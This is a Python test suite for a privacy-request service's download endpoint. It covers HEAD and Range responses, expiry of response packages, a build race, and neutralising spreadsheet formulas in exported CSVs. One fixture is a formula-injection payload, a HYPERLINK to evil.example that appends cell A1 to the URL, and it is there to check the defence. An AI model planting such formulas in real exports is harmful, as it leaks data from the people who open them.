"""The download as HTTP says: HEAD, one Range (206/416, If-Range), and expiry at the time of
the download, not only when housekeeping next runs; spreadsheet formulas neutralised in CSVs."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import select

from app.answers.packages import csv_cell, from_csv_cell
from app.connectors import base
from app.db import utcnow
from app.errors import PROBLEM_BASE
from app.models import AuditEvent, ResponsePackage
from tests.helpers import assert_problem
from tests.responses.conftest import PROVIDED, access_behaviours, connectors, finish


async def _downloads(app, request_id: str) -> int:  # type: ignore[no-untyped-def]
    async with app.state.sessionmaker() as session:
        events = await session.scalars(select(AuditEvent).where(
            AuditEvent.request_id == uuid.UUID(request_id),
            AuditEvent.action == "response_downloaded"))
        return len(list(events))


@pytest.fixture
async def answered(app, client, portal) -> dict:  # type: ignore[no-untyped-def, type-arg]
    body = await finish(app, client, portal, {"type": "access"},
                        connectors(**access_behaviours()))
    whole = await client.get(f"/v1/requests/{body['id']}/response", headers=portal)
    assert whole.status_code == 200
    return {"id": body["id"], "url": f"/v1/requests/{body['id']}/response",
            "zip": whole.content, "etag": whole.headers["etag"]}


async def test_head_answers_the_headers_alone(app, client, portal, answered) -> None:  # type: ignore[no-untyped-def]
    before = await _downloads(app, answered["id"])
    head = await client.head(answered["url"], headers=portal)
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-length"] == str(len(answered["zip"]))
    assert head.headers["etag"] == answered["etag"]
    assert head.headers["accept-ranges"] == "bytes"
    assert await _downloads(app, answered["id"]) == before  # looking is not downloading
    assert (await client.head(f"/v1/requests/{uuid.uuid4()}/response",
                              headers=portal)).status_code == 404


@pytest.mark.parametrize(("header", "first", "last"), [
    ("bytes=0-99", 0, 99), ("bytes=100-", 100, None), ("bytes=-50", -50, None),
    ("bytes=10-999999999", 10, None),
])
async def test_a_range_resumes_a_download(client, portal, answered, header, first, last) -> None:  # type: ignore[no-untyped-def]
    size = len(answered["zip"])
    part = await client.get(answered["url"], headers={**portal, "Range": header})
    assert part.status_code == 206
    expected = answered["zip"][first:None if last is None else last + 1]
    assert part.content == expected
    start = first if first >= 0 else size + first
    assert part.headers["content-range"] == f"bytes {start}-{start + len(expected) - 1}/{size}"
    assert part.headers["content-length"] == str(len(expected))


async def test_range_outside_the_file_is_416(client, portal, answered) -> None:  # type: ignore[no-untyped-def]
    size = len(answered["zip"])
    for header in (f"bytes={size}-", f"bytes={size + 10}-{size + 20}", "bytes=-0"):
        answer = await client.get(answered["url"], headers={**portal, "Range": header})
        problem = assert_problem(answer, 416)
        assert problem["type"] == PROBLEM_BASE + "range-not-satisfiable"
        assert answer.headers["content-range"] == f"bytes */{size}"


@pytest.mark.parametrize("header", ["bytes=0-1,5-9", "lines=1-2", "bytes=9-1", "bytes=x-"])
async def test_other_ranges_get_the_whole_file(client, portal, answered, header) -> None:  # type: ignore[no-untyped-def]
    answer = await client.get(answered["url"], headers={**portal, "Range": header})
    assert answer.status_code == 200 and answer.content == answered["zip"]


async def test_if_range_with_another_etag_gets_the_whole_file(client, portal, answered) -> None:  # type: ignore[no-untyped-def]
    stale = await client.get(answered["url"], headers={**portal, "Range": "bytes=0-9",
                                                       "If-Range": '"0000"'})
    assert stale.status_code == 200 and stale.content == answered["zip"]
    fresh = await client.get(answered["url"], headers={**portal, "Range": "bytes=0-9",
                                                       "If-Range": answered["etag"]})
    assert fresh.status_code == 206 and fresh.content == answered["zip"][:10]


async def test_an_expired_package_is_gone_before_housekeeping_runs(app, client, portal, answered) -> None:  # type: ignore[no-untyped-def]
    async with app.state.sessionmaker() as session, session.begin():
        package = await session.get(ResponsePackage, uuid.UUID(answered["id"]))
        assert package is not None and package.purged_at is None
        package.expires_at = utcnow() - timedelta(seconds=1)
    problem = assert_problem(await client.get(answered["url"], headers=portal), 410)
    assert problem["type"] == PROBLEM_BASE + "response-purged"
    assert hashlib.sha256(answered["zip"]).hexdigest() in problem["detail"]
    assert (await client.head(answered["url"], headers=portal)).status_code == 410
    shown = (await client.get(f"/v1/requests/{answered['id']}", headers=portal)).json()
    assert shown["response_url"] is None and shown["response"]["purged_at"] is None


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example\",\"klicka\")", "+46 70",
                                  "-1+1", "@SUM(A1)", "\tx", "\rx", "'quoted", "plain", ""])
def test_csv_cells_neutralise_formulas_and_parse_back(text: str) -> None:
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert from_csv_cell(cell, "string") == (text or None)
    assert csv_cell(-5) == "-5" and from_csv_cell("-5", "integer") == -5  # numbers stay numbers


async def test_a_rectified_name_that_is_a_formula_is_text_in_the_csv(app, client, portal) -> None:  # type: ignore[no-untyped-def]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
    provided = {**PROVIDED, "customer": [{**PROVIDED["customer"][0], "name": formula}]}
    body = await finish(app, client, portal, {"type": "portability"},
                        connectors(crm=lambda call: base.done("Exported.", provided)))
    answer = await client.get(f"/v1/requests/{body['id']}/response", headers=portal)
    package = zipfile.ZipFile(io.BytesIO(answer.content))
    rows = list(csv.DictReader(io.StringIO(package.read("customer.csv").decode(), newline="")))
    assert rows[0]["name"] == "'" + formula
    assert from_csv_cell(rows[0]["name"], "string") == formula


async def _changed_during_build(app, monkeypatch, request_id: str, *, reopen: bool) -> list[int]:  # type: ignore[no-untyped-def]
    """Build the package while, on the first build only, the request is reopened underneath."""
    from app.answers import builder
    from app.db import unit_of_work
    from app.models import DsrRequest, RequestStatus
    from app.services import lifecycle

    original, calls = builder.build_zip, []

    async def build(*args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(1)
        if len(calls) == 1:
            async with unit_of_work(app.state.sessionmaker) as session:
                request = await session.get(DsrRequest, uuid.UUID(request_id))
                assert request is not None
                if reopen:
                    request.status, request.finished_at = RequestStatus.in_progress, None
                await lifecycle.note(session, request, action="lift_requested",
                                     actor=("test", "agent"))
        return await original(*args, **kwargs)

    monkeypatch.setattr(builder, "build_zip", build)
    return calls


async def test_a_build_for_a_request_reopened_meanwhile_is_not_stored(app, client, portal, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """The race behind a lifted restriction's answer lacking the lift: a package built from
    the first completion was stored after the request had been reopened."""
    from app.answers import builder
    from app.errors import NotReady

    body = await finish(app, client, portal, {"type": "access"},
                        connectors(**access_behaviours()))
    await _changed_during_build(app, monkeypatch, body["id"], reopen=True)
    with pytest.raises(NotReady):
        await builder.ensure_package(
            app.state.sessionmaker, uuid.UUID(body["id"]), connectors=app.state.connectors,
            vault=app.state.vault, settings=app.state.settings)
    async with app.state.sessionmaker() as session:
        assert await session.get(ResponsePackage, uuid.UUID(body["id"])) is None
